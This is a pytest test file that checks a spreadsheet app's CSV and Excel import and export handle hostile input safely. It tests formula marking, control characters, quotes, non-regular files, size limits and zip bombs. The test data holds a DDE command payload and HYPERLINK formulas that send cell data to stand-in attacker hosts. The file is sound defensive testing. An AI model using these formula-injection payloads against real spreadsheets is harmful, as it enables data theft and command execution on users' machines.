"""Files in and out are safe: formula text, control characters, broken quotes and size limits.

Every cell passes read_table and write_table, so the tests go through those two for CSV and
Excel alike, and once end to end through the command line.
"""

from __future__ import annotations

import csv
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fault_helpers import within
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import select

from fredapp.cli import main
from fredapp.core.db import open_database
from fredapp.core.errors import ImportExportError
from fredapp.core.io import formats
from fredapp.core.io.formats import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    MAX_FILE_BYTES,
    MAX_ROWS,
    read_table,
    write_table,
)
from fredapp.core.io.measures import plan_measure_import
from fredapp.core.models import Measure
from fredapp.core.service import DataService

FORMULA_STARTERS = ["=", "+", "-", "@", "\t", "\r"]
SUFFIXES = [".csv", ".xlsx"]
FAST = 5.0  # seconds: a refusal never reads the whole of a hostile file


def refused(path: Path, pattern: str, seconds: float = FAST) -> str:
    """The message read_table refuses ``path`` with, checked against ``pattern``."""
    with within(seconds), pytest.raises(ImportExportError) as caught:
        read_table(path)
    text = str(caught.value)
    assert re.search(pattern, text), text
    return text


def without_controls(text: str) -> str:
    """``text`` as read back: written out independently of the module's own pattern."""
    return "".join(
        char
        for char in text
        if not (
            (ord(char) < 0x20 and char not in "\t\n\r")
            or 0x7F <= ord(char) <= 0x9F
            or 0xD800 <= ord(char) <= 0xDFFF
            or char in "\ufffe\uffff"
        )
    )


# -- formulas ------------------------------------------------------------------------------


@pytest.mark.parametrize("starter", FORMULA_STARTERS)
def test_csv_marks_formula_like_text_and_reading_takes_the_mark_off(
    tmp_path: Path, starter: str
) -> None:
    target = tmp_path / "f.csv"
    text = f'{starter}HYPERLINK("http://x.example/?q="&A1;"klikk")'
    write_table(target, ["code", "title"], [["S1", text]])
    raw = target.read_bytes().decode("utf-8-sig")
    assert f"'{starter}HYPERLINK" in raw
    assert "S1;=" not in raw and 'S1;"=' not in raw
    assert read_table(target)[1] == [["S1", text]]


def test_numbers_are_written_as_numbers_without_a_mark(tmp_path: Path) -> None:
    target = tmp_path / "n.csv"
    write_table(target, ["a", "b", "c"], [[-3.5, -7, 2.0]])
    assert target.read_bytes().decode("utf-8-sig").splitlines()[1] == "-3,5;-7;2"
    assert read_table(target)[1] == [["-3,5", "-7", "2"]]


@pytest.mark.parametrize("text", ["'=x", "''=x", "'-3", "'", "'abc", "it's", "=", "-"])
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_text_that_already_has_a_mark_comes_back_unchanged(
    tmp_path: Path, text: str, suffix: str
) -> None:
    target = tmp_path / f"m{suffix}"
    write_table(target, ["code", "title"], [["S1", text]])
    assert read_table(target)[1] == [["S1", text]]


def test_a_marked_cell_from_another_program_loses_its_mark(tmp_path: Path) -> None:
    source = tmp_path / "other.csv"
    source.write_text("a;b;c\r\n'=SUM(A1:A2);'+47 123;'hei\r\n", encoding="utf-8")
    assert read_table(source)[1] == [["=SUM(A1:A2)", "+47 123", "'hei"]]


@pytest.mark.parametrize("starter", FORMULA_STARTERS)
def test_xlsx_stores_formula_like_text_as_text(tmp_path: Path, starter: str) -> None:
    target = tmp_path / "f.xlsx"
    text = f"{starter}1+cmd|' /C calc'!A0"
    write_table(target, [f"{starter}header"], [[text], [-3.5]])
    workbook = openpyxl.load_workbook(target)
    sheet = workbook.worksheets[0]
    assert sheet["A1"].data_type == "s"
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].data_type == "n" and sheet["A3"].value == -3.5
    workbook.close()
    assert read_table(target)[1] == [[text], ["-3.5"]]


# -- round trips of any text ---------------------------------------------------------------

# Any text, weighted towards what is dangerous at the boundary.
NASTY = st.sampled_from([*FORMULA_STARTERS, "'", "\n", "\r\n", ";", ",", '"', "_x000D_", "\x00"])
CELL_TEXT = st.lists(st.one_of(st.text(), NASTY), max_size=6).map("".join)
CONTROL_TEXT = st.text(st.characters(max_codepoint=0xA0)) | CELL_TEXT


@pytest.mark.parametrize("suffix", SUFFIXES)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(CONTROL_TEXT, min_size=1, max_size=4))
def test_any_text_comes_back_as_written_without_control_characters(
    tmp_path_factory: pytest.TempPathFactory, suffix: str, cells: list[str]
) -> None:
    target = tmp_path_factory.mktemp("rt") / f"t{suffix}"
    header = ["code", *(f"c{i}" for i in range(len(cells)))]
    write_table(target, header, [["S1", *cells]])
    read_header, rows = read_table(target)
    assert read_header == header
    assert rows == [["S1", *(without_controls(cell) for cell in cells)]]


# -- control characters --------------------------------------------------------------------


CONTROLS = "".join(
    chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0)) if chr(c) not in "\t\n\r"
)


def test_control_characters_are_removed_from_every_csv_cell(tmp_path: Path) -> None:
    source = tmp_path / "c.csv"
    body = f"co\x00de;ti\x1btle\r\nS\x071;A{CONTROLS}B\tC\r\n"
    source.write_bytes(body.encode("utf-8"))
    header, rows = read_table(source)
    assert header == ["code", "title"]
    assert rows == [["S1", "AB\tC"]]


def test_control_characters_are_removed_from_excel_cells(tmp_path: Path) -> None:
    # XML 1.0 allows DEL and the C1 controls, and Excel writes C0 ones as _x0001_.
    target = tmp_path / "c.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["code", "title"])
    workbook.active.append(["S1", "A\x7f\x80\x85\x9fB_x0001__x001B_C"])
    workbook.save(target)
    assert read_table(target)[1] == [["S1", "ABC"]]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_an_export_never_fails_on_control_characters(tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"e{suffix}"
    write_table(target, ["code", "title"], [["S1", f"A{CONTROLS}\ufffeB"]])
    assert read_table(target)[1] == [["S1", "AB"]]


def test_a_cell_of_only_control_characters_is_a_blank_row(tmp_path: Path) -> None:
    source = tmp_path / "b.csv"
    source.write_bytes(b"code;title\r\n\x01;\x7f\r\nS1;x\r\n")
    rows = read_table(source)[1]
    assert [(row.number, list(row)) for row in rows] == [(3, ["S1", "x"])]


# -- quotes --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "row"),
    [
        # Open to the end of the file, with or without a last line break.
        ('code;title\r\nS1;"Tittel\r\nS2;Annen\r\nS3;Tredje\r\n', 2),
        ('code;title\r\nS1;ok\r\nS2;"Tittel', 3),
        # Closed by the next quote, rows later: three rows would become one title.
        ('code;title\r\nS1;"Tittel\r\nS2;Annen\r\nS3;Tredje";z\r\nS4;a\r\n', 2),
        ('code;title;status\r\nS1;"Tittel;x\r\nS2;Annen;y\r\nS3;Tredje"\r\n', 2),
        # Closed in the middle of a later cell.
        ('code;title\r\nS1;"Tittel\r\nS2;"Annen"\r\n', 2),
        ('code,title\nS1,ok\nS2,"Tittel\nS3,Tredje\nS4,"sitat" her\n', 3),
    ],
)
def test_an_unclosed_quote_is_refused_naming_its_row(tmp_path: Path, body: str, row: int) -> None:
    source = tmp_path / "q.csv"
    source.write_text(body, encoding="utf-8")
    refused(source, rf"^q\.csv, row {row}: a quote .* is never closed$")


def test_a_quoted_cell_may_hold_line_breaks(tmp_path: Path) -> None:
    source = tmp_path / "note.csv"
    body = 'code;title;notes\r\nS1;"A; b";"linje 1\r\nlinje 2\nlinje ""3"""\r\nS2;B;\r\n'
    source.write_text(body, encoding="utf-8")
    assert read_table(source)[1] == [
        ["S1", "A; b", 'linje 1\r\nlinje 2\nlinje "3"'],
        ["S2", "B", ""],
    ]
    assert [row.number for row in read_table(source)[1]] == [2, 3]


# -- what is not a regular file ------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_pipe_is_refused_without_waiting_for_a_writer(tmp_path: Path, suffix: str) -> None:
    pipe = tmp_path / f"pipe{suffix}"
    os.mkfifo(pipe)
    refused(pipe, r"pipe.* is not a regular file")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/dev/null"])
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_device_is_refused_without_reading(tmp_path: Path, device: str, suffix: str) -> None:
    if not Path(device).exists():
        pytest.skip(f"no {device}")
    link = tmp_path / f"device{suffix}"
    link.symlink_to(device)
    refused(link, r"device.* is not a regular file")


def test_a_folder_and_a_missing_file_are_refused(tmp_path: Path) -> None:
    (tmp_path / "dir.csv").mkdir()
    refused(tmp_path / "dir.csv", r"dir\.csv is a folder")
    refused(tmp_path / "none.xlsx", r"none\.xlsx does not exist")
    (tmp_path / "loop.csv").symlink_to(tmp_path / "loop.csv")
    with pytest.raises(ImportExportError, match="could not read"):
        read_table(tmp_path / "loop.csv")


# -- size limits ---------------------------------------------------------------------------


def test_the_limits() -> None:
    assert MAX_FILE_BYTES == 100 * 1024 * 1024
    assert MAX_ROWS == 1_000_000
    assert MAX_COLUMNS == 200
    assert MAX_CELL_CHARS == 1024 * 1024


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path: Path, suffix: str) -> None:
    big = tmp_path / f"big{suffix}"
    with big.open("wb") as handle:
        handle.write(b"code;title\r\n")
        handle.truncate(200 * 1024 * 1024)  # sparse: takes no disk space
    refused(big, rf"^big\{suffix} is larger than 100 MB", seconds=1)


def test_a_csv_over_the_row_limit_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "rows.csv"
    source.write_bytes(b"code\n" + b"1\n" * MAX_ROWS)  # the header makes one row too many
    refused(source, r"^rows\.csv has more than 1000000 rows", seconds=20)


def test_a_csv_at_the_row_limit_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "MAX_ROWS", 10)
    source = tmp_path / "rows.csv"
    source.write_bytes(b"code\n" + b"1\n" * 9)
    assert len(read_table(source)[1]) == 9
    source.write_bytes(b"code\n" + b"1\n" * 10)
    refused(source, r"more than 10 rows")


def test_a_csv_over_the_column_limit_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "wide.csv"
    source.write_text(";".join(["x"] * MAX_COLUMNS) + "\r\n", encoding="utf-8")
    assert len(read_table(source)[0]) == MAX_COLUMNS
    source.write_text("a;b\r\n1;2\r\n" + ";".join(["x"] * (MAX_COLUMNS + 1)), encoding="utf-8")
    refused(source, r"^wide\.csv, row 3: more than 200 columns")


def test_a_csv_cell_over_the_limit_is_refused(tmp_path: Path) -> None:
    # A 70 MB title would be refused the same way; 1 MB and a bit is enough to show it.
    source = tmp_path / "cell.csv"
    write_table(source, ["code", "title"], [["S1", "x" * MAX_CELL_CHARS], ["S2", "ok"]])
    assert read_table(source)[1][0][1] == "x" * MAX_CELL_CHARS
    write_table(source, ["code", "title"], [["S1", "ok"], ["S2", "x" * (MAX_CELL_CHARS + 1)]])
    refused(source, r"^cell\.csv, row 3: a cell holds more than 1048576 characters")


def test_a_csv_cell_far_over_csv_modules_own_limit_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "huge.csv"
    source.write_text('code;title\r\nS1;"' + "x" * (3 * MAX_CELL_CHARS) + '"\r\n', encoding="utf-8")
    refused(source, r"^huge\.csv, row 2: a cell holds more than")


def xlsx_with_sheet(path: Path, sheet_data: str, dimension: str | None = None) -> Path:
    """An Excel file whose first sheet holds ``sheet_data`` (rows) and claims ``dimension``."""
    template = path.with_name("template.xlsx")
    write_table(template, ["a"], [])
    claim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{claim}<sheetData>{sheet_data}</sheetData></worksheet>"
    )
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode("utf-8")
            target.writestr(info, data, zipfile.ZIP_DEFLATED)
    template.unlink()
    return path


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


SMALL_SHEET = f'<row r="1">{inline("A1", "code")}</row><row r="2">{inline("A2", "S1")}</row>'


@pytest.mark.parametrize(
    ("dimension", "pattern"),
    [
        ("A1:XFD1048576", r"says it has 1048576 rows and 16384 columns"),
        ("A1:B1000001", r"says it has 1000001 rows and 2 columns"),
        ("A1:GS2", r"says it has 2 rows and 201 columns"),
        ("B2:XFD2", r"says it has 2 rows and 16384 columns"),
    ],
)
def test_an_excel_sheet_claiming_too_much_is_refused_before_its_rows_are_read(
    tmp_path: Path, dimension: str, pattern: str
) -> None:
    source = xlsx_with_sheet(tmp_path / "claim.xlsx", SMALL_SHEET, dimension)
    assert refused(source, pattern, seconds=2).startswith("claim.xlsx")


def test_an_excel_cell_over_the_limit_is_refused(tmp_path: Path) -> None:
    # openpyxl writes at most Excel's 32,767 characters a cell; other programs write more.
    big = "x" * (MAX_CELL_CHARS + 1)
    rows = f'{SMALL_SHEET}<row r="3">{inline("A3", big)}</row>'
    refused(xlsx_with_sheet(tmp_path / "cell.xlsx", rows), r"^cell\.xlsx, row 3: a cell holds more")


def test_an_excel_sheet_within_its_claim_is_read(tmp_path: Path) -> None:
    source = xlsx_with_sheet(tmp_path / "ok.xlsx", SMALL_SHEET, f"A1:GR{MAX_ROWS}")
    assert read_table(source) == (["code"], [["S1"]])


def test_an_excel_sheet_holding_more_than_it_claims_is_read_whole(tmp_path: Path) -> None:
    rows = "".join(
        f'<row r="{n}">{inline(f"A{n}", f"S{n}")}{inline(f"C{n}", "x")}</row>' for n in (1, 3, 5)
    )
    source = xlsx_with_sheet(tmp_path / "lie.xlsx", rows, "A1:A1")
    header, read = read_table(source)
    assert header == ["S1", "", "x"]
    assert [(row.number, list(row)) for row in read] == [(3, ["S3", "", "x"]), (5, ["S5", "", "x"])]


def test_an_excel_sheet_lying_about_its_size_stops_at_the_limits(tmp_path: Path) -> None:
    far = f'<row r="1">{inline("A1", "code")}</row><row r="1048576">{inline("A1048576", "x")}</row>'
    refused(xlsx_with_sheet(tmp_path / "far.xlsx", far, "A1:A2"), r"more than 1000000 rows", 30)
    wide = f'<row r="1">{inline("A1", "code")}{inline("XFD1", "x")}</row>'
    refused(xlsx_with_sheet(tmp_path / "wide.xlsx", wide, "A1:A1"), r"row 1: more than 200 columns")


def test_an_excel_sheet_lying_about_its_rows_stops_at_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "MAX_ROWS", 10)
    rows = "".join(f'<row r="{n}">{inline(f"A{n}", "x")}</row>' for n in range(1, 12))
    refused(xlsx_with_sheet(tmp_path / "many.xlsx", rows, "A1:A2"), r"more than 10 rows")


def test_an_excel_file_unpacking_to_too_much_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = f'{SMALL_SHEET}<row r="3">{inline("A3", "x" * 100_000)}</row>'
    source = xlsx_with_sheet(tmp_path / "bomb.xlsx", rows)
    assert source.stat().st_size < 20_000  # it packs well: a bomb in small
    monkeypatch.setattr(formats, "MAX_UNPACKED_BYTES", 50_000)
    refused(source, r"^bomb\.xlsx unpacks to more than")


def test_a_damaged_sheet_is_unreadable_not_a_crash(tmp_path: Path) -> None:
    source = xlsx_with_sheet(tmp_path / "bad.xlsx", '<row r="1"><c r="A1" t="inlineStr"><is>')
    refused(source, r"^bad\.xlsx is not a readable Excel file$")


# -- end to end through the command line ---------------------------------------------------


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    path = tmp_path / "demo.sqlite"
    assert main(["demo", "--db", str(path)]) == 0
    return path


def titles(db: Path) -> dict[str, str]:
    database = open_database(db)
    try:
        with database.session() as session:
            measures = session.exec(select(Measure).where(Measure.deleted == False))  # noqa: E712
            return {measure.code: measure.title for measure in measures}
    finally:
        database.close()


def retitled(exported: Path, target: Path, code: str, title: str) -> Path:
    header, rows = read_table(exported)
    column = header.index("title")
    for row in rows:
        if row[0] == code:
            row[column] = title
    write_table(target, header, rows)
    return target


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_formula_title_survives_export_and_import_unchanged(
    tmp_path: Path, demo_db: Path, suffix: str
) -> None:
    first = tmp_path / f"first{suffix}"
    assert main(["export", "measures", str(first), "--db", str(demo_db)]) == 0
    code = read_table(first)[1][0][0]
    formula = '=HYPERLINK("http://angriper.example/?d="&B2;"Se her")'
    source = retitled(first, tmp_path / f"evil{suffix}", code, formula)
    assert main(["import", "measures", str(source), "--db", str(demo_db)]) == 0
    before = titles(demo_db)
    assert before[code] == formula

    exported = tmp_path / f"exported{suffix}"
    assert main(["export", "measures", str(exported), "--db", str(demo_db)]) == 0
    if suffix == ".csv":
        assert f"'{formula}" in exported.read_text(encoding="utf-8-sig").replace('""', '"')
    database = open_database(demo_db)
    try:
        plan = plan_measure_import(DataService(database, author="test"), exported)
    finally:
        database.close()
    assert (plan.created, plan.updated) == (0, 0)
    assert main(["import", "measures", str(exported), "--db", str(demo_db)]) == 0
    assert titles(demo_db) == before
    again = tmp_path / f"again{suffix}"
    assert main(["export", "measures", str(again), "--db", str(demo_db)]) == 0
    assert read_table(again) == read_table(exported)


def test_an_imported_title_is_stored_without_control_characters(
    tmp_path: Path, demo_db: Path
) -> None:
    exported = tmp_path / "m.csv"
    assert main(["export", "measures", str(exported), "--db", str(demo_db)]) == 0
    header, rows = read_table(exported)
    code, column = rows[0][0], header.index("title")
    rows[0][column] = "Ny\x00 tit\x1b[31mtel\x07\x85\x7f"
    # Written as another program would: write_table itself never writes control characters.
    source = tmp_path / "ctrl.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([header, *rows])
    assert "\x1b" in source.read_text(encoding="utf-8")
    assert main(["import", "measures", str(source), "--db", str(demo_db)]) == 0
    assert titles(demo_db)[code] == "Ny tit[31mtel"
